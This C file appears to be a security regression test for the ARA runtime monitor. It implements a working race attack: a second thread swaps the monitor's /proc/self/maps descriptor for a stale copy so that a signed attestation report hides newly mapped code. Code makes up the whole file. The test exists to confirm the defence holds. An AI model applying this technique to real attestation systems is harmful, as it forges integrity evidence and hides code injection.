/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The RTM's signed reports say whether the process's code mappings still
 * match those of initialisation (ARA_RTM_DOC_MODULES_CHANGED,
 * services/rtm/modules.c), which DOM0 reads from /proc/self/maps with
 * several read() calls on one descriptor. Here it would be a forged piece
 * of evidence, if ARA read that file in the process's shared descriptor
 * table: another App thread puts a file of its own behind the number
 * between two reads, holding the text the App read from /proc/self/maps
 * at its start, and the signed report says "unchanged" although the App
 * has mapped new code over its own.
 *
 * The App first takes a report (unchanged), keeps the text of
 * /proc/self/maps in a memfd, and maps a page of new code over a page of
 * its own code (a change the check must see: the module's mapping is
 * split). To widen the window, it also maps (before the new code)
 * thousands of one-page mappings below every other one: DOM0 reads their
 * lines first, one page of text per read(), and whichever of those reads
 * follows the swap, the text DOM0 parses is some of those lines, then the
 * whole start-up text, in address order. The swapping thread finds DOM0's
 * descriptor by its link ("/proc/<pid>/maps") at the lowest free number.
 * Under ARA, which reads the file in a task with a private copy of the
 * table, every report says the modules changed; the twin, against libara
 * that reads it in the shared table (shared-fd-table), gets a correctly
 * signed report saying they did not.
 *
 * usage: attack_rtm_maps (ARA_EVIDENCE must name a backend)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <mbedtls/sha256.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/random.h>
#include <unistd.h>

#include "ara/ara.h"
#include "ara/domains.h"
#include "ara/rtm.h"
#include "binding.h"
#include "p256.h"
#include "por_sysreg.h"
#include "rtm_format.h"

#define ATTEMPTS 10 /* reports; the twin stops at the first forged one */
#define WATCHED 4   /* descriptor numbers from the lowest free one */
#define PAGE 4096ul
#define PAD_BASE 0x100000ul /* the widening mappings: one page in two from here */
#define PAD_MAPPINGS 3000
#define PAD_END (PAD_BASE + 2 * PAD_MAPPINGS * PAGE)
#define COPY_NAME "app-maps-copy"

static uint8_t report[ARA_RTM_REPORT_MAX];
static uint8_t signer[ARA_RTM_PUB_BYTES]; /* the first report's key (SEC1: 0x04 first) */

static struct {
	int copy;	    /* memfd: /proc/self/maps as it was at the start */
	int lowest;	    /* the lowest free descriptor number */
	char maps_link[64]; /* "/proc/<pid>/maps" */
	int stop, armed, ack, swaps;
} s;

/*
 * A page of the App's own code, alone in its page and never run as it is:
 * the App maps new code over it.
 */
extern const char spare_page[];
__asm__(".pushsection .text.spare_page, \"ax\", %progbits\n"
	".p2align 12\n"
	"spare_page:\n"
	".rept 1024\n\tudf #0\n.endr\n"
	".popsection");

static uint32_t u32_at(const uint8_t *d, size_t off)
{
	uint32_t v;

	memcpy(&v, d + off, sizeof(v));
	return v;
}

/*
 * NULL if d[0..len) is a report over nonce, its fields filling it exactly,
 * signed by the key it names as the verifier checks it (docs/rtm.md); else
 * what is wrong.
 */
static const char *report_fault(const uint8_t *d, uint32_t len, const uint8_t *nonce)
{
	size_t at = ARA_RTM_HEADER_BYTES;
	mbedtls_sha256_context c;
	uint8_t digest[32], hash[32];

	if (len < ARA_RTM_HEADER_BYTES + ARA_RTM_SIG_BYTES)
		return "shorter than a header and a signature";
	if (memcmp(d, ARA_RTM_MAGIC, 8) != 0 || u32_at(d, ARA_RTM_OFF_KIND) != ARA_RTM_DOC_REPORT)
		return "not a report";
	if (memcmp(d + ARA_RTM_OFF_NONCE, nonce, ARA_RTM_NONCE_BYTES) != 0)
		return "not over this nonce";
	if (d[ARA_RTM_OFF_FLAGS] & ~ARA_RTM_DOC_FLAGS_KNOWN)
		return "unknown flags";
	for (uint32_t m = 0; m < u32_at(d, ARA_RTM_OFF_MODULES) && at + 32 <= len; m++)
		at += 32 + ((u32_at(d, at + 24) + 7u) & ~7u);
	if (at + 8ull * u32_at(d, ARA_RTM_OFF_PENDING) + ARA_RTM_SIG_BYTES != len)
		return "its length does not match its fields";
	mbedtls_sha256_init(&c);
	if (mbedtls_sha256_starts(&c, 0) ||
	    mbedtls_sha256_update(&c, (const uint8_t *)ARA_RTM_SIGN_LABEL, ARA_RTM_SIGN_LABEL_BYTES) ||
	    mbedtls_sha256_update(&c, d, len - ARA_RTM_SIG_BYTES) ||
	    mbedtls_sha256_finish(&c, digest) || ara_provision_module_hash(digest, hash)) {
		mbedtls_sha256_free(&c);
		return "SHA-256 failed";
	}
	mbedtls_sha256_free(&c);
	if (ara_p256_verify(d + ARA_RTM_OFF_PUB, hash, d + len - ARA_RTM_SIG_BYTES) != 0)
		return "the signature does not verify under the key it names";
	return NULL;
}

/* A report over a fresh nonce, checked: its RTM_REPORT status; *flags once verified. */
static int take_report(const char *what, uint8_t *flags)
{
	struct ara_rtm_report_arg a = { .out = (uintptr_t)report, .out_cap = sizeof(report) };
	const char *fault;
	int st;

	if (getrandom(a.nonce, sizeof(a.nonce), 0) != (ssize_t)sizeof(a.nonce)) {
		printf("FAIL: getrandom: %s\n", strerror(errno));
		exit(1);
	}
	st = secure_call(ARA_FID_RTM_REPORT, &a);
	if (st != ARA_OK)
		return st;
	if (!signer[0])
		memcpy(signer, report + ARA_RTM_OFF_PUB, sizeof(signer));
	if ((fault = report_fault(report, a.out_len, a.nonce)) ||
	    (fault = memcmp(report + ARA_RTM_OFF_PUB, signer, sizeof(signer)) != 0
			     ? "signed by another key than the first report"
			     : NULL)) {
		printf("FAIL: %s: %s\n", what, fault);
		exit(1);
	}
	*flags = report[ARA_RTM_OFF_FLAGS];
	return ARA_OK;
}

/* /proc/self/maps, read whole into a new memfd (s.copy); its lowest address, or 0. */
static unsigned long keep_maps(void)
{
	size_t cap = 1 << 16, used = 0;
	char *text = malloc(cap);
	int fd = open("/proc/self/maps", O_RDONLY | O_CLOEXEC);
	unsigned long lowest;
	ssize_t got;

	if (!text || fd < 0) {
		printf("FAIL: open /proc/self/maps: %s\n", strerror(errno));
		return 0;
	}
	while ((got = read(fd, text + used, cap - used)) > 0)
		if ((used += (size_t)got) == cap && !(text = realloc(text, cap *= 2))) {
			printf("FAIL: realloc\n");
			return 0;
		}
	close(fd);
	s.copy = memfd_create(COPY_NAME, MFD_CLOEXEC);
	if (got < 0 || used == 0 || s.copy < 0 || write(s.copy, text, used) != (ssize_t)used) {
		printf("FAIL: a copy of /proc/self/maps: %s\n", strerror(errno));
		return 0;
	}
	lowest = strtoul(text, NULL, 16);
	free(text);
	return lowest;
}

/* The widening mappings: their lines come first in /proc/self/maps. */
static int pad(void)
{
	for (unsigned long i = 0; i < PAD_MAPPINGS; i++) {
		void *at = (void *)(PAD_BASE + 2 * i * PAGE);

		if (mmap(at, PAGE, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1,
			 0) != at) {
			printf("FAIL: mmap at %p: %s\n", at, strerror(errno));
			return -1;
		}
	}
	return 0;
}

/* New code (return 42) from a memfd, mapped over spare_page, and run. */
static int map_new_code(void)
{
	static const uint32_t code[] = { 0x52800540, /* mov w0, #42 */
					 0xd65f03c0 /* ret */ };
	void *at = (void *)(uintptr_t)spare_page;
	int fd = memfd_create("app-new-code", MFD_CLOEXEC), got;

	if (fd < 0 || ftruncate(fd, PAGE) != 0 ||
	    pwrite(fd, code, sizeof(code), 0) != (ssize_t)sizeof(code) ||
	    mmap(at, PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, fd, 0) != at) {
		printf("FAIL: new code over the App's own: %s\n", strerror(errno));
		return -1;
	}
	close(fd);
	got = ((int (*)(void))(uintptr_t)spare_page)();
	if (got != 42) {
		printf("FAIL: the new code returned %d\n", got);
		return -1;
	}
	return 0;
}

/* Descriptor n's link is link. */
static int links_to(int n, const char *link)
{
	char path[32], target[128];
	ssize_t len;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", n);
	len = readlink(path, target, sizeof(target) - 1);
	if (len <= 0)
		return 0;
	target[len] = '\0';
	return strcmp(target, link) == 0;
}

/* While armed: DOM0's /proc/self/maps swapped for the start-up copy, once. */
static void *swapper(void *arg)
{
	(void)arg;
	while (!__atomic_load_n(&s.stop, __ATOMIC_SEQ_CST)) {
		if (!__atomic_load_n(&s.armed, __ATOMIC_SEQ_CST)) {
			__atomic_store_n(&s.ack, 1, __ATOMIC_SEQ_CST);
			continue;
		}
		for (int n = s.lowest; n < s.lowest + WATCHED; n++)
			if (links_to(n, s.maps_link) && dup3(s.copy, n, 0) == n) {
				__atomic_add_fetch(&s.swaps, 1, __ATOMIC_SEQ_CST);
				__atomic_store_n(&s.armed, 0, __ATOMIC_SEQ_CST);
				break;
			}
	}
	return NULL;
}

/* Stops the swapper for this attempt; closes a copy it put behind a number DOM0 had closed. */
static void disarm(void)
{
	__atomic_store_n(&s.armed, 0, __ATOMIC_SEQ_CST);
	__atomic_store_n(&s.ack, 0, __ATOMIC_SEQ_CST);
	while (!__atomic_load_n(&s.ack, __ATOMIC_SEQ_CST))
		;
	for (int n = s.lowest; n < s.lowest + WATCHED; n++)
		if (links_to(n, "/memfd:" COPY_NAME " (deleted)"))
			close(n);
}

int main(void)
{
	int changed = 0, refused = 0, forged = 0, st, i;
	unsigned long lowest;
	pthread_t t;
	uint8_t flags;

	setvbuf(stdout, NULL, _IONBF, 0);
	if (por_el0_read() != ARA_POR_DOM2) {
		printf("FAIL: not running under ARA\n");
		return 1;
	}
	/* The baseline: before the App changes its code, a report says nothing changed. */
	if ((st = take_report("the first report", &flags)) != ARA_OK) {
		printf("FAIL: RTM_REPORT: %s\n", ara_strerror(st));
		return 1;
	}
	if (flags & ARA_RTM_DOC_MODULES_CHANGED) {
		printf("FAIL: the first report says the modules changed before the App changed them\n");
		return 1;
	}
	lowest = keep_maps();
	if (lowest == 0)
		return 1;
	if (lowest < PAD_END) {
		printf("FAIL: a mapping at 0x%lx, below the widening mappings' end 0x%lx\n", lowest,
		       PAD_END);
		return 1;
	}
	if (pad() || map_new_code())
		return 1;
	printf("the App mapped new code over its own at %p (it returns 42)\n",
	       (void *)(uintptr_t)spare_page);

	snprintf(s.maps_link, sizeof(s.maps_link), "/proc/%d/maps", getpid());
	s.lowest = dup(0);
	close(s.lowest);
	if (pthread_create(&t, NULL, swapper, NULL)) {
		printf("FAIL: pthread_create\n");
		return 1;
	}
	for (i = 1; i <= ATTEMPTS && !forged; i++) {
		if (lseek(s.copy, 0, SEEK_SET) != 0) {
			printf("FAIL: lseek: %s\n", strerror(errno));
			return 1;
		}
		__atomic_store_n(&s.armed, 1, __ATOMIC_SEQ_CST);
		st = take_report("a report", &flags);
		disarm();
		if (st != ARA_OK) {
			printf("report %d: RTM_REPORT: %s\n", i, ara_strerror(st));
			refused++;
		} else if (flags & ARA_RTM_DOC_MODULES_CHANGED) {
			changed++;
		} else {
			forged = i;
		}
	}
	__atomic_store_n(&s.stop, 1, __ATOMIC_SEQ_CST);
	pthread_join(t, NULL);
	if (forged) {
		printf("BREACH: signed report says modules unchanged after new code was mapped "
		       "(report %d; %d swaps of DOM0's /proc/self/maps descriptor)\n",
		       forged, s.swaps);
		return 1;
	}
	printf("ara-evidence: %d signed reports made while another thread watched for DOM0's "
	       "/proc/self/maps descriptor to swap in the start-up text: %d say the modules "
	       "changed, %d failed (%d swaps made)\n",
	       ATTEMPTS, changed, refused, s.swaps);
	return changed == ATTEMPTS ? 0 : 1;
}
